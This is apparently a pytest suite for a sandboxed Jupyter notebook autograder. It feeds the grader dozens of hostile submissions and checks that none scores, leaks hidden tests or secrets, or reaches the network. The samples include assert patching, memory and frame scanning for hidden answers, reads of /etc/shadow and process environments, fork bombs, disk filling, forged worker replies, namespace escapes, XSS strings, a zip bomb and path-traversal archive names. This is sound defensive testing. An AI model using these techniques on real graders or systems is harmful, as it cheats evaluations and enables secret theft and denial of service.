"Grading: honest work gets its points, and no notebook gains one, learns something hidden, or costs somebody else a grade."
import csv, io, json, os, socket, subprocess, sys, tempfile, time, zipfile
from pathlib import Path
import nbformat, pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
from typer.testing import CliRunner
from alignlab import grading as G
from alignlab.cli import app
from conftest import ROOT

boxed = pytest.mark.skipif(bool(G._no_box()), reason=f'no box here: {G._no_box()}')

def mark(name, **more): return dict(nbgrader=dict(dict(grade=False, grade_id=name, locked=False, schema_version=3, solution=False, task=False), **more))
HALF = 'def half(x):\n    return .5 * (x ** 2).mean()'
TWICE = 'def twice(words):\n    return [w for w in words for _ in range(2)]'
HIDDEN = 'MARK-OF-THE-HIDDEN-TEST'

def solution():
    region = lambda s: s.replace('\n    ', '\n    ### BEGIN SOLUTION\n    ', 1) + '\n    ### END SOLUTION'
    return new_notebook(cells=[new_code_cell('import torch'),
        new_code_cell(region(HALF), metadata=mark('ex-1-1', solution=True)),
        new_code_cell(f'x = torch.arange(5.)\ntorch.testing.assert_close(half(x), torch.tensor(3.))\n### BEGIN HIDDEN TESTS\nassert half(x + 1).item() == 5.5, "{HIDDEN}"\nassert half.grad(x)[1].tolist() == (x / 5).tolist()\n### END HIDDEN TESTS', metadata=mark('test-1-1', grade=True, locked=True, points=2)),
        new_code_cell(region(TWICE), metadata=mark('ex-1-2', solution=True)),
        new_code_cell('assert twice(["a", "b"]) == ["a", "a", "b", "b"]', metadata=mark('test-1-2', grade=True, locked=True, points=1)),
        new_markdown_cell('Because.', metadata=mark('text-1-3', grade=True, solution=True, points=4))])

def submission(half=HALF, twice=TWICE, before='', between='', after='', words='YOUR ANSWER HERE', change=lambda nb: None):
    "A notebook; `between` stands under both answers and above the tests"
    nb = solution()
    nb.cells[1].source, nb.cells[3].source, nb.cells[5].source = half, twice, words
    nb.cells[2].source = nb.cells[2].source.partition('\n###')[0]
    if between: nb.cells[2:4] = [nb.cells[3], new_code_cell(between), nb.cells[2]]
    nb.cells[1:1] = [new_code_cell(before)] if before else []
    nb.cells += [new_code_cell(after)] if after else []
    change(nb)
    return nbformat.writes(nb)

def lines(*body): return 'def half(x):\n' + '\n'.join(f'    {b}' for b in body)
def promote(nb): nb.cells[2].metadata['nbgrader'].update(points=100, grade=False, solution=True, locked=False)
def rename(nb): nb.cells[1].metadata['nbgrader']['grade_id'] = 'test-1-1'
def drop_tests(nb): nb.cells = [c for c in nb.cells if not c.metadata.get('nbgrader', {}).get('locked')]
def passing_test(nb): nb.cells[2].source = 'assert True'
WRONG = 'def half(x): return (x ** 2).mean()'
WORKER = 'import gc, json, os, struct\nW = next(o for o in gc.get_objects() if type(o) is dict and "WRITE" in o and "receive" in o)\n'      # the worker's own names
GIVE = 'import glob, os, re\nLOOT = []\ndef loot(text):\n    LOOT.append(str(text)[:200])\n'

# name -> (notebook text, what items 1.1 and 1.2 are worth)
HOSTILE = {
    'patched asserts': (submission(WRONG, before='import torch, builtins\ntorch.testing.assert_close = torch.allclose = torch.equal = lambda *a, **k: True\nbuiltins.AssertionError = type("E", (BaseException,), {})'), 0, 1),
    'always equal': (submission(lines('class E:', '    __eq__ = __lt__ = __gt__ = lambda s, o: True', '    def item(self): return self', 'return E()')), 0, 1),
    'tensor subclass': (submission(lines('class T(torch.Tensor):', '    @classmethod', '    def __torch_function__(cls, f, types, args=(), kwargs=None): return True', 'return torch.tensor(0.).as_subclass(T)')), 0, 1),
    'float subclass': (submission(lines('class F(float):', '    __eq__ = lambda s, o: True', 'return F(1.)')), 0, 1),
    'asserts removed from the syntax tree': (submission(WRONG, before='import ast\nclass No(ast.NodeTransformer):\n    def visit_Assert(self, n): return ast.Pass()\nget_ipython().ast_transformers.append(No())'), 0, 1),
    'input transformer': (submission(WRONG, before='get_ipython().input_transformers_cleanup.append(lambda ls: [l.replace("assert", "True or") for l in ls])'), 0, 1),
    'import hook': (submission(WRONG, before='import sys, types\nm = types.ModuleType("alignlab.exercises"); m.check = lambda *a, **k: True\nsys.modules["alignlab.exercises"] = m\nclass Hook:\n    def find_spec(self, *a): return None\nsys.meta_path.insert(0, Hook())'), 0, 1),
    'walks the frames': (submission(lines('import sys', 'f = sys._getframe()', 'while f:', '    for v in list(f.f_locals.values()) + list(f.f_globals.values()):', '        if isinstance(v, float) and v in (3., 5.5): return torch.tensor(v)', '    f = f.f_back', 'return torch.tensor(0.)')), 0, 1),
    'searches memory': (submission(lines('import gc', f'found = [o for o in gc.get_objects() if isinstance(o, (dict, list)) and "{HIDDEN}" [:8] + "X" in repr(o)[:10**5]]', 'return torch.tensor(float(len(found)))')), 0, 1),
    'reads files': (submission(lines('return torch.tensor(float(len(LOOT)))'), before=GIVE + f'for p in ({str(ROOT)!r}, {str(ROOT)!r} + "/solutions", "/etc/passwd", "/etc/shadow", "/srv", "/home", "/course/alignlab/checks", "/course/alignlab/grading.py", "/var"):\n    try: loot(open(p).read() if os.path.isfile(p) else [q for q in os.listdir(p) if q not in ("home", ".venv")])\n    except OSError: pass\nLOOT = [l for l in LOOT if l not in ("[]",) and "check(*args" not in l]'), 0, 1),
    'reads the environment': (submission(lines('return torch.tensor(float(len(LOOT)))'), before=GIVE + 'loot([v for k, v in os.environ.items() if "SECRET" in k or "SECRET" in v])\nfor p in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):\n    try: t = open(p, "rb").read()\n    except OSError: continue\n    if b"SECRET" in t or b"solutions" in t: loot(t)\nLOOT = [l for l in LOOT if l != "[]"]'), 0, 1),
    'writes where it should not': (submission(lines('return torch.tensor(0.)'), before='for p in ("/worker.py", "/course/alignlab/kto.py", "/usr/x", "/etc/passwd", "/grades.json"):\n    try: open(p, "w").write("x")\n    except OSError: pass'), 0, 1),
    'network': (submission(lines('return torch.tensor(0.)'), before='import socket\nfor host in ("127.0.0.1", "localhost", "1.1.1.1"):\n    try: s = socket.create_connection((host, PORT), timeout=1); s.sendall(b"stolen")\n    except OSError: pass'), 0, 1),
    'forks': (submission(before='import os\nfor _ in range(10**4):\n    try:\n        if os.fork() == 0:\n            import time; time.sleep(60); os._exit(0)\n    except OSError: break'), None, None),
    'processes that stay': (submission(lines('return torch.tensor(0.)'), before='import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(300)\n    os._exit(0)'), 0, 1),
    'memory': (submission(lines('y = [bytearray(2**28) for _ in range(64)]', 'return torch.tensor(3.)')), 0, 1),
    'disk': (submission(lines('for i in range(400): open(f"/tmp/{i}", "wb").write(bytes(15 * 2**20))', 'return torch.tensor(3.)')), 0, 1),
    'disk elsewhere': (submission(lines('for d in ("/dev/shm", "/dev", "/", "/course"):', '    for i in range(40):', '        try: open(f"{d}/{i}", "wb").write(bytes(15 * 2**20))', '        except OSError: break', 'import os', 'free = sum(os.path.getsize(f"{d}/{f}") for d in ("/dev/shm", "/dev", "/") for f in os.listdir(d) if f.isdigit())', 'return torch.tensor(3. if free > 2**26 else 0.)')), 0, 1),
    'signals': (submission(lines('import os, signal', 'for p in (os.getppid(), 1, 0, -1):', '    try: os.kill(p, signal.SIGKILL)', '    except OSError: pass', 'return torch.tensor(3.)')), 0, 1),
    'leaves in a function': (submission(lines('import os; os._exit(0)')), 0, 1),
    'leaves at the end': (submission(after='import os; os._exit(0)'), 2, 1),
    'crashes hard': (submission(lines('import ctypes; ctypes.string_at(0)')), 0, 1),
    'SystemExit': (submission(lines('raise SystemExit(0)'), between='import sys; sys.exit(0)'), 0, 1),
    'KeyboardInterrupt': (submission(lines('raise KeyboardInterrupt')), 0, 1),
    'loops in a cell': (submission(between='while True: pass'), 2, 1),
    'leaves before the tests': (submission(between='import os; os._exit(0)'), 2, 1),
    'loops in a function': (submission(lines('while True:', '    try:', '        while True: pass', '    except BaseException: pass')), 0, 1),
    'recurses': (submission(lines('return half(x)')), 0, 1),
    'forged reply': (submission(lines('data = json.dumps({"value": {"t": "AABAQA==", "s": [], "d": "float32"}, "nonce": "0" * 32}).encode()', 'os.write(W["WRITE"], struct.pack(">I", len(data)) + data)', 'return torch.tensor(0.)'), before=WORKER), 0, 1),
    'forged reply with the right nonce': (submission(lines('data = json.dumps({"value": {"v": True}, "flows": True, "nonce": W["m"]["nonce"]}).encode()', 'os.write(W["WRITE"], struct.pack(">I", len(data)) + data)', 'return torch.tensor(0.)'), before=WORKER), 0, None),
    'half a frame': (submission(lines('os.write(W["WRITE"], struct.pack(">I", 1000) + b"{")', 'os._exit(0)'), before=WORKER), 0, 1),
    'a frame of four gigabytes': (submission(lines('os.write(W["WRITE"], b"\\xff\\xff\\xff\\xff")', 'return torch.tensor(0.)'), before=WORKER), 0, 1),
    'closes the pipes': (submission(lines('os.close(W["WRITE"])', 'return torch.tensor(3.)'), before=WORKER), 0, 1),
    'replaces the worker': (submission(lines('return torch.tensor(0.)'), between=WORKER + 'W["call"] = lambda q: {"value": {"v": True}, "flows": True, "passed": True, "score": 100}'), 0, 0),
    'huge reply': (submission(lines('return torch.zeros(2**25)')), 0, 1),
    'nested reply': (submission(lines('y = []', 'for _ in range(500): y = [y]', 'return y')), 0, 1),
    'prints without end': (submission(before='for _ in range(200): print("x" * 10**6)'), 2, 1),
    'clears the names': (submission(between='globals().clear()'), 0, 0),
    'odd names': (submission(between='globals()[b"half"] = 1; globals()[("a",)] = 2; globals()["x" * 10**6] = 3'), 2, 1),
    'NaN': (submission(lines('return x.mean() * float("nan")')), 0, 1),
    'no gradient': (submission('def half(x): return (.5 * (x.detach() ** 2).mean())'), 0, 1),
    'opens a namespace of its own': (submission(lines('return torch.tensor(0.)'), before='import ctypes\nlibc = ctypes.CDLL(None)\nfor flag in (0x10000000, 0x00020000, 0x40000000): libc.unshare(flag)\nlibc.mount(b"/usr", b"/tmp", b"", 4096, None)'), 0, 1),
    'raises the limits': (submission(lines('import resource', 'for r in range(10):', '    try: resource.setrlimit(r, (resource.RLIM_INFINITY,) * 2)', '    except (ValueError, OSError): pass', 'y = torch.zeros(2**34)', 'return torch.tensor(3.)')), 0, 1),
    'points in the metadata': (submission(WRONG, change=promote), 0, 1),
    'an answer named as a test': (submission(change=rename), 0, 1),
    'tests deleted': (submission(change=drop_tests), 2, 1),
    'test rewritten': (submission(WRONG, change=passing_test), 0, 1),
    'script in the answer': (submission(words='<script>alert(1)</script><img src=x onerror=alert(2)>'), 2, 1),
    'script in an error': (submission(lines('raise ValueError("<script>alert(3)</script>")')), 0, 1),
    'malformed': ('{"cells": [', 0, 0), 'no notebook': ('[1, 2, 3]', 0, 0), 'deep JSON': ('[' * 10**5, 0, 0), 'cells of another kind': ('{"cells": [3, null], "nbformat": 4, "nbformat_minor": 5, "metadata": {}}', 0, 0),
    'honest': (submission(words='It is.'), 2, 1), 'half of it': (submission(WRONG), 0, 1), 'blank': (submission('def half(x):\n    # YOUR CODE HERE\n    raise NotImplementedError()', 'def twice(words):\n    raise NotImplementedError()'), 0, 0),
    'syntax': (submission('def half(x: return'), 0, 1), 'a warning': (submission(lines('import warnings, sys; warnings.warn("!"); print("!", file=sys.stderr)', 'return .5 * (x ** 2).mean()')), 2, 1),
}

@pytest.fixture(scope='module')
def graded(tmp_path_factory):
    "Everybody's work in one class, graded once: (results by name, folder of the results, what reached the port)"
    tmp = tmp_path_factory.mktemp('class')
    (tmp/'1.ipynb').write_text(nbformat.writes(solution()))
    server = socket.create_server(('127.0.0.1', 0)); server.settimeout(.1)
    for i, (text, *_) in enumerate(HOSTILE.values()):
        (tmp/'handed in'/f's{i:02}').mkdir(parents=True)
        (tmp/'handed in'/f's{i:02}'/'1.ipynb').write_text(text.replace('PORT', str(server.getsockname()[1])))
    os.environ['MY_SECRET'] = 'SECRET-OF-THE-GRADER'
    try: done = G.grade(tmp/'handed in', tmp/'1.ipynb', tmp/'grades', seconds=4., say=print)
    finally: del os.environ['MY_SECRET']
    try: server.accept(); reached = True
    except TimeoutError: reached = False
    return {name: r for name, r in zip(HOSTILE, done['results'])}, tmp/'grades', reached

@boxed
def test_nobody_gains_nobody_pays_and_nothing_hidden_comes_out(graded):
    "One test, so that one process grades the class"
    results, folder, reached = graded
    assert len(HOSTILE) > 50
    got = {name: {i['item']: i for i in r['items']} for name, r in results.items()}
    wrong = {(name, item): got[name][item] for name, (_, *worth) in HOSTILE.items() for item, w in zip(('1.1', '1.2', '1.3'), (*worth, 0)) if w is not None and got[name][item]['score'] != w}
    assert not wrong
    for items in got.values(): assert {i['reason'] for i in items.values()} <= set(G._WORDS) and (items['1.1']['max'], items['1.2']['max']) == (2, 1)
    said_nothing(folder, reached)
    reasons({name: {k: i['reason'] for k, i in items.items()} for name, items in got.items()})

def said_nothing(folder, reached):
    assert not reached, 'a submission has reached the network'
    for path in folder.rglob('*'):
        if path.is_file():
            text = path.read_text()
            assert HIDDEN not in text and 'SECRET-OF' not in text and '5.5' not in text , path
            if path.suffix == '.html': assert '<script' not in text and '<img' not in text, path
    assert '&lt;script&gt;' in (folder/'review.html').read_text()

def reasons(reason):
    for name, item, said in (('honest', '1.1', 'passed'), ('honest', '1.3', 'needs review'), ('blank', '1.1', 'not answered'), ('blank', '1.3', 'not answered'), ('half of it', '1.1', 'wrong value'), ('syntax', '1.1', 'not defined'),
        ('loops in a function', '1.1', 'timed out'), ('leaves in a function', '1.1', 'process died'), ('always equal', '1.1', 'not a plain value'), ('huge reply', '1.1', 'too large'), ('recurses', '1.1', 'raised an error'), ('malformed', '1.2', 'unreadable notebook')):
        assert reason[name][item] == said, (name, reason[name])

# --- how work is handed in
def empty_class(tmp_path):
    (tmp_path/'1.ipynb').write_text(nbformat.writes(solution()))
    return tmp_path/'1.ipynb'

def test_submissions_are_found_and_names_are_harmless(tmp_path):
    inside = tmp_path/'in'; inside.mkdir()
    for name in ('ada.ipynb', '=cmd().ipynb', 'b c.ipynb', 'b_c.ipynb'): (inside/name).write_text(submission())
    for name in ('two', 'none', 'named', 'deep/er'): (inside/name).mkdir(parents=True)
    for name in ('two/a.ipynb', 'two/b.ipynb', 'named/1.ipynb', 'named/other.ipynb', 'deep/er/x.ipynb'): (inside/name).write_text(submission())
    (tmp_path/'secret.ipynb').write_text(submission())
    (inside/'link.ipynb').symlink_to(tmp_path/'secret.ipynb'); (inside/'named'/'z.ipynb').symlink_to('/etc/passwd')
    found = {s: (data is not None, note) for s, data, note in G._found(inside, '1')}
    assert set(found) == {'ada', 'cmd', 'b_c', 'b_c-2', 'two', 'none', 'named', 'deep'}
    assert not found['two'][0] and 'several' in found['two'][1] and found['none'] == (False, 'no notebook') and found['named'][0] and found['deep'][0]
    with pytest.raises(ValueError, match='neither a folder nor a zip'): G._found(tmp_path/'1.txt', '1')
    (tmp_path/'empty').mkdir()
    with pytest.raises(ValueError, match='no notebook in it'): G._found(tmp_path/'empty', '1')

def test_a_zip_is_read_and_never_unpacked(tmp_path):
    with zipfile.ZipFile(tmp_path/'a.zip', 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('doejane_123_456_1.ipynb', submission()); z.writestr('Max Muster_77_assignsubmission_file_/1.ipynb', submission())
        z.writestr('../../evil/1.ipynb', submission()); z.writestr('bomb/1.ipynb', bytes(10**8)); z.writestr('__MACOSX/._1.ipynb', 'x'); z.writestr('notes.txt', 'x')
    found = {s: (data is not None, note) for s, data, note in G._found(tmp_path/'a.zip', '1')}
    assert found == {'doejane': (True, ''), 'Max_Muster': (True, ''), 'evil': (True, ''), 'bomb': (False, 'too large')}
    assert [p.name for p in tmp_path.iterdir()] == ['a.zip']

def test_students_of_one_name_and_folders_inside_theirs_stay_apart(tmp_path):
    with zipfile.ZipFile(tmp_path/'a.zip', 'w') as z:
        for path in ('Anna Smith_101_assignsubmission_file_/1.ipynb', 'Anna Smith_202_assignsubmission_file_/1.ipynb', 'Bo_303_assignsubmission_file_/work/1.ipynb', 'Cy_404_assignsubmission_file_/work/1.ipynb',
                     'smithanna_55_66_1.ipynb', 'smithanna_77_88_1.ipynb', 'class/ada/1.ipynb', 'class/bob_b/1.ipynb'): z.writestr(path, submission())
    found = G._found(tmp_path/'a.zip', '1')
    assert [s for s, *_ in found] == ['Anna_Smith', 'Anna_Smith-2', 'Bo', 'Cy', 'smithanna', 'smithanna-2', 'ada', 'bob_b'] and not any(note for *_, note in found)
    for name in ('a b', 'a_b', 'a_b-2'): (tmp_path/'c'/name).mkdir(parents=True); (tmp_path/'c'/name/'1.ipynb').write_text(submission())
    names = [s for s, *_ in G._found(tmp_path/'c', '1')]
    assert len(set(names)) == 3

def test_a_box_that_does_not_listen_ends_with_its_time():
    read, write = os.pipe()
    try:
        G._send(write, memoryview(b'x' * 100), 5.)
        with pytest.raises(G.Fault, match='timed out'): G._send(write, memoryview(bytes(10**6)), .2)       # more than the pipe holds, and nobody reads
    finally: os.close(read); os.close(write)

@boxed
def test_a_notebook_that_stops_listening_costs_itself_only(tmp_path):
    "Its large cell fills the pipe, and after it no question is answered: both end with their time, and there are only so many"
    deaf = submission(before='import os, time\nos.read = lambda *a: time.sleep(10**6)', between='# ' + 'x' * 300_000)
    (tmp_path/'1.ipynb').write_text(nbformat.writes(solution()))
    for name, text in (('deaf', deaf), ('right', submission())): (tmp_path/'in'/name).mkdir(parents=True); (tmp_path/'in'/name/'1.ipynb').write_text(text)
    scores = {r['student']: r['score'] for r in G.grade(tmp_path/'in', tmp_path/'1.ipynb', tmp_path/'out', seconds=2.)['results']}
    assert scores == {'deaf': 0, 'right': 3}

# --- a class
@boxed
def test_a_run_that_was_killed_goes_on_to_the_same_result(tmp_path):
    source = empty_class(tmp_path)
    (tmp_path/'in').mkdir()
    for i in range(3): (tmp_path/'in'/f's{i}.ipynb').write_text(submission(HALF if i % 2 else WRONG, between='import time; time.sleep(1)'))
    command = [sys.executable, '-m', 'alignlab', 'grade', str(tmp_path/'in'), '--solution', str(source), '--jobs', '1', '--out']
    G.grade(tmp_path/'in', source, tmp_path/'whole', jobs=1)
    first = subprocess.Popen([*command, str(tmp_path/'cut')], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    while len(list((tmp_path/'cut'/'students').glob('*.json'))) < 1 and first.poll() is None: time.sleep(.1)
    os.killpg(first.pid, 9); first.wait()
    kept = {p: p.stat().st_mtime_ns for p in (tmp_path/'cut'/'students').glob('*.json')}
    assert 1 <= len(kept) < 3
    again = subprocess.run([*command, str(tmp_path/'cut')], capture_output=True, text=True)
    assert again.returncode == 0 and 'graded already' in again.stderr
    assert all(p.stat().st_mtime_ns == t for p, t in kept.items())
    files = lambda d: {p.relative_to(d): p.read_bytes() for p in d.rglob('*') if p.is_file()}
    assert files(tmp_path/'cut') == files(tmp_path/'whole')

@boxed
def test_a_driver_runs_where_the_answer_lives():
    "A training step changes a model, which is no plain value: the driver goes into the box, weights come out"
    driver = "import torch\ndef weights(step, x):\n    model = torch.nn.Linear(2, 1, bias=False); torch.nn.init.ones_(model.weight)\n    for _ in range(3): step(model, x)\n    return model.weight"
    test = f'from alignlab.exercises import drive, same\nsame(drive(step, {driver!r}, torch.eye(2)), torch.full((1, 2), .9 ** 3))'
    right = 'def step(model, x):\n    model.zero_grad(); model(x).pow(2).mean().backward()\n    with torch.no_grad(): model.weight -= .1 * model.weight.grad'
    cells = [new_code_cell('import torch'), new_code_cell(right, metadata=mark('ex-1', solution=True)), new_code_cell(test, metadata=mark('test-1', grade=True, locked=True, points=1))]
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder)/'1.ipynb'; source.write_text(nbformat.writes(new_notebook(cells=cells)))
        for answer, reason in ((right, 'passed'), (right.replace('model.zero_grad(); ', ''), 'wrong value'), ('def step(model, x): raise ValueError', 'raised an error'), ('# YOUR CODE HERE\nraise NotImplementedError()', 'not answered')):
            cells[1] = new_code_cell(answer, metadata=mark('ex-1', solution=True))
            item, = G.grade_once(nbformat.writes(new_notebook(cells=cells)), source)
            assert item['reason'] == reason, (answer, item)

@boxed
def test_a_test_sees_what_stands_above_it():
    "As when the notebook is run: what comes below, a redefinition or an endless cell, costs the items above nothing"
    below = HALF.replace('.5', '.25') + '\nwhile True: pass'
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder)/'1.ipynb'; source.write_text(nbformat.writes(solution()))
        items = G.grade_once(submission(after=below), source, seconds=2.)
    assert [i['score'] for i in items][:2] == [2, 1]

@boxed
def test_hidden_overlay_and_lms_files(tmp_path):
    source = empty_class(tmp_path)
    overlay = new_notebook(cells=[new_code_cell('assert half(torch.ones(3) * 4).item() == 8', metadata=mark('test-1-1', grade=True, locked=True, points=2))])
    (tmp_path/'hidden.ipynb').write_text(nbformat.writes(overlay))
    (tmp_path/'in').mkdir()
    (tmp_path/'in'/'good.ipynb').write_text(submission()); (tmp_path/'in'/'knows.ipynb').write_text(submission('def half(x): return torch.tensor({10.: 3., 15.: 5.5}[float(x.sum())])'))
    done = CliRunner().invoke(app, ['grade', str(tmp_path/'in'), '--solution', str(source), '--hidden', str(tmp_path/'hidden.ipynb'), '--out', str(tmp_path/'g'), '--json'])
    assert done.exit_code == 0, done.stderr
    assert [(r['student'], r['score']) for r in json.loads(done.stdout)['results']] == [('good', 3), ('knows', 1)]
    canvas = list(csv.DictReader(io.StringIO((tmp_path/'g'/'canvas.csv').read_text())))
    assert [(r['Student'], float(r['1'])) for r in canvas] == [('good', 3), ('knows', 1)] and 'raised an error' in (tmp_path/'g'/'class.html').read_text()
    overlay.cells[0].metadata['nbgrader']['grade_id'] = 'test-9'
    (tmp_path/'hidden.ipynb').write_text(nbformat.writes(overlay))
    done = CliRunner().invoke(app, ['grade', str(tmp_path/'in'), '--solution', str(source), '--hidden', str(tmp_path/'hidden.ipynb'), '--out', str(tmp_path/'g')])
    assert done.exit_code == 2 and 'test-9' in done.stderr

def test_without_a_box_it_refuses_and_says_how(tmp_path, monkeypatch):
    source = empty_class(tmp_path)
    (tmp_path/'in').mkdir(); (tmp_path/'in'/'a.ipynb').write_text(submission(words='It is.'))
    monkeypatch.setenv('PATH', str(tmp_path))
    done = CliRunner().invoke(app, ['grade', str(tmp_path/'in'), '--solution', str(source), '--out', str(tmp_path/'g')])
    assert done.exit_code == 2 and 'bubblewrap' in done.stderr and '--unsafe-no-sandbox' in done.stderr and not (tmp_path/'g').exists()
    done = CliRunner().invoke(app, ['grade', str(tmp_path/'in'), '--solution', str(source), '--out', str(tmp_path/'g'), '--unsafe-no-sandbox'])
    assert done.exit_code == 0, done.stderr
    assert 'without a box' in (tmp_path/'g'/'class.html').read_text() and not json.loads((tmp_path/'g'/'students'/'a.json').read_text())['boxed']

    points_of_a_person(tmp_path/'g', ['grade', str(tmp_path/'in'), '--solution', str(source), '--out', str(tmp_path/'g'), '--unsafe-no-sandbox'])

def points_of_a_person(out, command):
    "What stands in review.csv counts when graded again; what is no such number is refused, and stays"
    assert (out/'review.csv').read_text() == 'student,item,points,of\na,1.3,,4.0\n' and '– / 4' in (out/'students'/'a.html').read_text()
    (out/'review.csv').write_text('student,item,points,of\na,1.3,5,4.0\n')
    done = CliRunner().invoke(app, command)
    assert done.exit_code == 2 and 'a, 1.3' in done.stderr and 'from 0 to 4' in done.stderr and ',5,' in (out/'review.csv').read_text()
    (out/'review.csv').write_text('student,item,points,of\na,1.3,3.5,4.0\n')
    assert CliRunner().invoke(app, command).exit_code == 0
    assert '3.5 / 4' in (out/'students'/'a.html').read_text() and '6.5' in (out/'canvas.csv').read_text() and 'a,1.3,3.5,4.0' in (out/'review.csv').read_text()

@boxed
def test_nbgrader_with_the_box(tmp_path):
    from nbgrader.apps import NbGraderAPI
    from traitlets.config import Config
    from alignlab._nbgrader import configure
    config = Config()
    config.CourseDirectory.root, config.CourseDirectory.db_url = str(tmp_path), f'sqlite:///{tmp_path}/gradebook.db'
    configure(config)
    (tmp_path/'source'/'1').mkdir(parents=True)
    (tmp_path/'source'/'1'/'1.ipynb').write_text(nbformat.writes(solution()))
    names = 'honest', 'half of it', 'always equal', 'asserts removed from the syntax tree', 'leaves at the end', 'test rewritten'
    with pytest.MonkeyPatch.context() as m:
        m.setenv('PATH', str(Path(sys.executable).parent), prepend=':')
        api = NbGraderAPI(config=config)
        assert api.generate_assignment('1')['success']
        for name in names:
            (tmp_path/'submitted'/name/'1').mkdir(parents=True)
            (tmp_path/'submitted'/name/'1'/'1.ipynb').write_text(HOSTILE[name][0])
            done = api.autograde('1', name); assert done['success'], done['log']
            done = api.generate_feedback('1', name); assert done['success'], done['log']
        with api.gradebook as gb: scores = {name: sum(g.auto_score or 0 for n in gb.find_submission('1', name).notebooks for g in n.grades if g.cell.name.startswith('test')) for name in names}
    assert scores == {name: sum(HOSTILE[name][1:]) for name in names}
    assert not [p for p in (tmp_path/'feedback').rglob('*.html') if HIDDEN in p.read_text()]

@boxed
@pytest.mark.parametrize('name', ['19_kto', *(pytest.param(p.stem, marks=pytest.mark.slow) for p in sorted((ROOT/'solutions').glob('*/*.ipynb')) if p.stem != '19_kto')])
def test_solutions_get_full_marks_and_unmodified_exercises_none(name):
    source = ROOT/'solutions'/name/f'{name}.ipynb'
    for folder, right in (('solutions', True), ('exercises', False)):
        items = [i for i in G.grade_once((ROOT/folder/name/f'{name}.ipynb').read_text(encoding='utf-8'), source) if not i.get('written')]
        assert items and {i['score'] == i['max'] for i in items} == {right} and (right or not any(i['score'] for i in items)), items
